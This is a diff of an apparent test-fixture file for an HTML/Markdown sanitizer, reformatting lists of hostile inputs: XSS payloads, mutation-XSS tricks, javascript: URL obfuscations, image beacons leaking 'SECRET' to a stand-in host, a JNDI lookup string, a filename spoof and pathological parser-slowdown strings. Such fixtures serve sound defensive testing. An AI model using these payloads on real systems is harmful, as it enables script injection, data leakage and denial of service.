@@ -17,7 +17,8 @@ HTML = [
     "<img src=x onerror=window.pwned=1>",
     "<svg/onload=window.pwned=1>",
     "<svg><script>window.pwned&#61;1</script>",
-    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
+    "<math><mtext><table><mglyph><style><!--</style>"
+    '<img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
     "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
     "<object data=javascript:window.pwned=1>",
     "<a href='java&#x09;script:window.pwned=1'>x</a>",
@@ -58,13 +59,14 @@ BEACONS = [
     "<video poster=https://e.example/?p=SECRET><source src=https://e.example/v></video>",
 ]
 ODD = [
-    "", " ", "\ufeff", "\u3164", "\x00", "\r\ndata: {\"x\":1}\r\n\r\n", "[DONE]", "\u2028\u2029", "\u202egnp.exe",
+    "", " ", "\ufeff", "\u3164", "\x00", "\r\ndata: {\"x\":1}\r\n\r\n", "[DONE]",
+    "\u2028\u2029", "\u202egnp.exe",
     "e\u0301" * 3000, "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 700, "Z\u0338\u0321\u0354\u0348" * 500,
     "a" * 5000, "\ufdfa" * 1000, "{{7*7}}", "${jndi:ldap://x}", "\ud83d\ude00" * 2048,
 ]  # fmt: skip
 SLOW = [
-    "*a _" * 25_000, "a**b" * 25_000, "[" * 100_000, "![" * 50_000, ">" * 100_000, "1. " * 33_000, "`a" * 50_000,
-    "_a_" * 5000, "](" * 50_000, "\n".join(" " * n + "- a" for n in range(440)),
+    "*a _" * 25_000, "a**b" * 25_000, "[" * 100_000, "![" * 50_000, ">" * 100_000, "1. " * 33_000,
+    "`a" * 50_000, "_a_" * 5000, "](" * 50_000, "\n".join(" " * n + "- a" for n in range(440)),
     "|a" * 10_000 + "\n" + "|-" * 10_000 + "\n" + "a\n" * 20_000,
 ]  # fmt: skip
 
